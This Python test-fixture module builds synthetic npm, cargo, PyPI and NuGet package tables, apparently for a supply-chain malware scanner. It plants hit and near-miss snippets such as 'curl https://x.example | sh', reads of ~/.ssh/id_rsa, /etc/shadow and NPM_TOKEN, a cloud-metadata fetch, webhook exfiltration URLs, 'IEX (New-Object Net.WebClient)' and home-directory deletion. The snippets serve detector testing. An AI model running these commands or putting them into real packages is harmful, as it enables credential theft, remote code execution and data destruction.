"""Package tables derived from the plain tables, with snippets planted so that every rule has hits and near misses.

Each derived table exists twice, as a DataFrame and as DuckDB SQL, from one list of snippets.
"""

from __future__ import annotations

import io
import json
import tarfile
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass

import pyarrow as pa
from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from palisade.sources import packages


@dataclass(frozen=True)
class Plant:
    """A text that a row of its slot begins with. Where: e entries, h hooks; kind: of the entry or hook."""

    ecosystem: str
    where: str
    kind: str
    path: str
    text: str


def e(text: str, kind: str = "js_source", path: str = "src/{id}.js", eco: str = "npm") -> Plant:
    return Plant(eco, "e", kind, path, text)


def h(text: str, kind: str = "install_time", hook: str = "postinstall", eco: str = "npm") -> Plant:
    return Plant(eco, "h", kind, hook, text)


BLOB = "QUJD" * 300  # 1,200 characters of base64
#: A hit and a near miss for each rule, in turn.
PLANTS = [
    h("node -e 'require(\"child_process\")'"), h("echo done"), e("Object.keys(process.env)"), e("Object.keys(process.argv)"),
    e("fetch('http://169.254.169.254/latest')"), e("fetch('http://169.254.169.253/latest')"), e("url = 'https://webhook.site/abc'"), e("url = 'https://mywebhook.site.example/abc'"),
    e("cat ~/.ssh/id_rsa"), e("cat ~/.sshx/id"), e("open wallet.dat now"), e("open walletxdat now"), h("echo $_authToken=1; process.env.NPM_TOKEN"), e("process.env.NPM_TOKENS"),
    e("process.env.GITHUB_TOKEN"), e("process.env.HOME2"), e("require(Buffer.from('aa'))"), e("require('fs')"), e("x = [104, 116, 116, 112]"), e("// [104, 116, 116, 112]"),
    h("curl https://raw.githubusercontent.com/a/b"), e("get('raw.githubusercontent.com')"), e("fs.unlinkSync(__filename)"), e("/* fs.unlinkSync(__filename) */"),
    h("curl https://x.example | sh"), h("curl https://x.example > out"), e("eval(atob(x))"), e("evaluate(atob(x))"), h("fetch('https://x.example')"), h("fetched('x')"),
    e("connect('stratum+tcp://pool')"), e("connect('stratum')"), e("pay 4" + "A1b2C3d4E5" * 9 + "FGHJK"), e("pay 4" + "A1b2C3d4E5" * 9), e("dns.lookup(process.env.USER + 'x')"), e("dns.lookup('x')"),
    e("<script src='x'></script>", "text", "README.md"), e("<script src='x'></script>", "text", "docs/README.md"), e("see " + BLOB, "text", "LICENSE"), e("see QUJD", "text", "LICENSE"),
    h("child_process", "publish_time", "prepublish"), h("child_processes", "publish_time", "prepublish"), e("k = process.env.MY_PRIVATE_KEY"), e("k = MY_PRIVATE_KEYS"),
    h("npm publish --access public"), h("npm run publish2"), e("read('/etc/shadow')"), e("read('/etc/shadows')"), h("chmod +x ./run"), h("chmod 644 ./run"),
    e("if (require.main.filename.indexOf('lodash')) {}"), e("if (require.main.filename) {}"), e("delete require.cache['x']"), e("// delete require.cache['x']"),
    e("fs.rmSync(os.homedir(), { recursive: true })"), e("fs.rmSync('tmp', { recursive: true })"), e("const e = process.env;\nfetch('x')"), e("const e = process.env;\nlog('x')"),
    h("node -e 'const e = process.env;' && fetch('x')"), h("node -e 'const e = process.env;'"), e("process.binding('fs')"), e("process.bindings('fs')"),
    h("std::process::Command::new(\"sh\")", hook="build", eco="cargo"), h("fn main() {}", hook="build", eco="cargo"), h("include_bytes!(\"x.bin\")", hook="build", eco="cargo"), h("include!(\"x.rs\")", hook="build", eco="cargo"),
    e("std::fs::write(p, b)", "rust_source", "src/lib.rs", "cargo"), e("tokio::net::TcpStream", "rust_source", "src/lib.rs", "cargo"), e("Command::new(\"x\")", "rust_source", "src/lib.rs", "cargo"), e("std::fmt", "rust_source", "src/lib.rs", "cargo"),
    h("import subprocess", hook="setup.py", eco="pypi"), h("import subproc", hook="setup.py", eco="pypi"), h("IEX (New-Object Net.WebClient)", hook="tools/install.ps1", eco="nuget"), h("Write-Host hi", hook="tools/install.ps1", eco="nuget"),
    e("eval(x); y = '" + BLOB + "'"), e("y = '" + BLOB + "'"),
]
MODULUS = 2 * len(PLANTS) + 1
ENTRIES = [(i, p) for i, p in enumerate(PLANTS) if p.where == "e"]
HOOKS = [(i, p) for i, p in enumerate(PLANTS) if p.where == "h"]


def _pick(slot, plants, value, default):
    values = [default] * MODULUS
    for i, p in plants:
        values[i] = value(p)
    return F.coalesce(F.get(F.lit(values), slot.cast("int")), F.lit(default))


def _pick_sql(slot: str, plants, value, default: str) -> str:
    quote = lambda s: "'" + s.replace("'", "''") + "'"
    return f"CASE {slot} " + " ".join(f"WHEN {i} THEN {quote(value(p))}" for i, p in plants) + f" ELSE {quote(default)} END"


FIELDS = {"ecosystem": (lambda p: p.ecosystem, "npm"), "kind": (lambda p: p.kind, "js_source"), "path_": (lambda p: p.path, "src/{id}.js"), "snippet": (lambda p: p.text, "")}
HOOK_FIELDS = FIELDS | {"kind": (lambda p: p.kind, "other"), "path_": (lambda p: p.path, "test")}


def entries(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One file of a package of its own for each document; the package's name is the document's id."""
    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").where("doc_id IS NOT NULL")
    slot = F.col("doc_id") % MODULUS
    out = docs.withColumns({k: _pick(slot, ENTRIES, v, d) for k, (v, d) in FIELDS.items()})
    text = F.concat("snippet", F.lit("\n"), F.coalesce("text", F.lit("")))
    path = F.replace(F.col("path_"), F.lit("{id}"), F.col("doc_id").cast("string"))
    mode = F.when(F.col("doc_id") % 50 == 7, F.lit(0o4755)).otherwise(F.lit(0o644))
    name = F.concat(F.lit("pkg-"), F.col("doc_id").cast("string"))
    return out.select("ecosystem", name.alias("name"), F.lit("1.0.0").alias("version"), F.lit(0).cast("long").alias("ordinal"), path.alias("path"), "kind", text.alias("text"), mode.alias("mode"))


ENTRIES_SQL = f"""SELECT {_pick_sql(f"(doc_id % {MODULUS})", ENTRIES, FIELDS["ecosystem"][0], "npm")} AS ecosystem, 'pkg-' || CAST(doc_id AS VARCHAR) AS name, '1.0.0' AS version,
  replace({_pick_sql(f"(doc_id % {MODULUS})", ENTRIES, FIELDS["path_"][0], "src/{id}.js")}, '{{id}}', CAST(doc_id AS VARCHAR)) AS path,
  {_pick_sql(f"(doc_id % {MODULUS})", ENTRIES, FIELDS["kind"][0], "js_source")} AS kind,
  {_pick_sql(f"(doc_id % {MODULUS})", ENTRIES, FIELDS["snippet"][0], "")} || chr(10) || coalesce(text, '') AS text,
  CASE WHEN doc_id % 50 = 7 THEN {0o4755} ELSE {0o644} END AS mode FROM documents WHERE doc_id IS NOT NULL"""


def lifecycle(spark: SparkSession, sf_dir: str) -> DataFrame:
    """One hook of the package conv-<conversation>-<turn> for each turn."""
    turns = spark.read.parquet(f"{sf_dir}/conversations.parquet").where("conv_id IS NOT NULL AND turn IS NOT NULL")
    slot = (F.col("conv_id") * 7 + F.col("turn")) % MODULUS
    out = turns.withColumns({k: _pick(slot, HOOKS, v, d) for k, (v, d) in HOOK_FIELDS.items()})
    body = F.concat("snippet", F.lit("\n"), F.coalesce("text", F.lit("")))
    name = F.concat_ws("-", F.lit("conv"), F.col("conv_id").cast("string"), F.col("turn").cast("string"))
    return out.select("ecosystem", name.alias("name"), F.lit("1.0.0").alias("version"), F.col("path_").alias("hook"), "kind", body.alias("body"), F.lit(None).cast("string").alias("path"))


_SLOT = f"((conv_id * 7 + turn) % {MODULUS})"
LIFECYCLE_SQL = f"""SELECT {_pick_sql(_SLOT, HOOKS, FIELDS["ecosystem"][0], "npm")} AS ecosystem, 'conv-' || CAST(conv_id AS VARCHAR) || '-' || CAST(turn AS VARCHAR) AS name, '1.0.0' AS version,
  {_pick_sql(_SLOT, HOOKS, FIELDS["path_"][0], "test")} AS hook, {_pick_sql(_SLOT, HOOKS, FIELDS["kind"][0], "other")} AS kind,
  {_pick_sql(_SLOT, HOOKS, FIELDS["snippet"][0], "")} || chr(10) || coalesce(text, '') AS body FROM conversations WHERE conv_id IS NOT NULL AND turn IS NOT NULL"""


def units_sql() -> str:
    from palisade.functions.rulespec import BINARY_KINDS

    out = ", ".join(f"'{k}'" for k in BINARY_KINDS)
    return f"""SELECT ecosystem, name, version, 'entry' AS unit, kind, path AS location, text, mode FROM ({ENTRIES_SQL}) WHERE kind NOT IN ({out})
 UNION ALL SELECT ecosystem, name, version, 'hook', kind, 'package.json#scripts.' || hook, body, NULL FROM ({LIFECYCLE_SQL})"""


ARCHIVE = "ecosystem string, source string, content binary"
_PACKED = pa.schema([("ecosystem", pa.string()), ("source", pa.string()), ("content", pa.binary())])
ECOSYSTEMS = ["npm", "cargo", "pypi", "nuget"]
#: One in so many archives has no manifest.
BARE = 11
CODE_FILES = ["index.js", "src/lib.rs", "setup.py", "tools/install.ps1"]


def archives(spark: SparkSession, sf_dir: str) -> DataFrame:
    """A real archive for each document, of the ecosystem of its id modulo 4, with the document's text as its code."""

    def rows(batches: Iterator[pa.RecordBatch]) -> Iterator[tuple]:
        for batch in batches:
            for i, t in zip(batch.column("doc_id"), batch.column("text"), strict=True):
                i = i.as_py()
                yield ECOSYSTEMS[i % 4], str(i), _archive(i, t.as_py().encode())

    def packed(batches: Iterator[pa.RecordBatch]) -> Iterator[pa.RecordBatch]:
        return packages.entry_batches(rows(batches), _PACKED, 2)

    docs = spark.read.parquet(f"{sf_dir}/documents.parquet").where("doc_id IS NOT NULL").select("doc_id", F.coalesce("text", F.lit("")).alias("text"))
    packages.prepared(spark)
    return docs.mapInArrow(packed, ARCHIVE)


MANIFEST_FILES = ("package/package.json", "c/Cargo.toml", "s/PKG-INFO", "x.nuspec")


def _archive(i: int, code: bytes) -> bytes:
    name, version, out = f"pkg-{i}", f"1.0.{i % 7}", io.BytesIO()
    if i % 4 == 3:
        with zipfile.ZipFile(out, "w") as z:
            if i % BARE:
                z.writestr("x.nuspec", f"<package><metadata><id>{name}</id><version>{version}</version></metadata></package>")
            z.writestr("tools/install.ps1", code)
        return out.getvalue()
    files = [
        {"package/package.json": json.dumps({"name": name, "version": version, "scripts": {"postinstall": f"echo {i}", "test": "x"}}).encode(), "package/index.js": code},
        {"c/Cargo.toml": f'[package]\nname = "{name}"\nversion = "{version}"\n'.encode(), "c/src/lib.rs": code, "c/build.rs": b"fn main() {}"},
        {"s/PKG-INFO": f"Name: {name}\nVersion: {version}\n\n".encode(), "s/setup.py": code},
    ][i % 4]
    with tarfile.open(fileobj=out, mode="w:gz", compresslevel=1) as tar:
        for path, data in files.items():
            if path in MANIFEST_FILES and i % BARE == 0:
                continue
            info = tarfile.TarInfo(path)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return out.getvalue()


#: The same files as rows: (i, ecosystem, path, kind, code), code: whether the file holds the document's text.
FILES_SQL = """SELECT doc_id AS i, ['npm', 'cargo', 'pypi', 'nuget'][CAST(doc_id % 4 + 1 AS INT)] AS ecosystem, f.path AS path, f.kind AS kind, f.code AS code, coalesce(text, '') AS text
 FROM documents, (VALUES (0, 'package.json', 'json', false), (0, 'index.js', 'js_source', true), (1, 'Cargo.toml', 'toml', false), (1, 'src/lib.rs', 'rust_source', true), (1, 'build.rs', 'rust_source', false),
  (2, 'PKG-INFO', 'text', false), (2, 'setup.py', 'py_source', true), (3, 'x.nuspec', 'text', false), (3, 'tools/install.ps1', 'text', true)) f(eco, path, kind, code)
 WHERE doc_id IS NOT NULL AND doc_id % 4 = f.eco AND (doc_id % 11 <> 0 OR path NOT IN ('package.json', 'Cargo.toml', 'PKG-INFO', 'x.nuspec'))"""
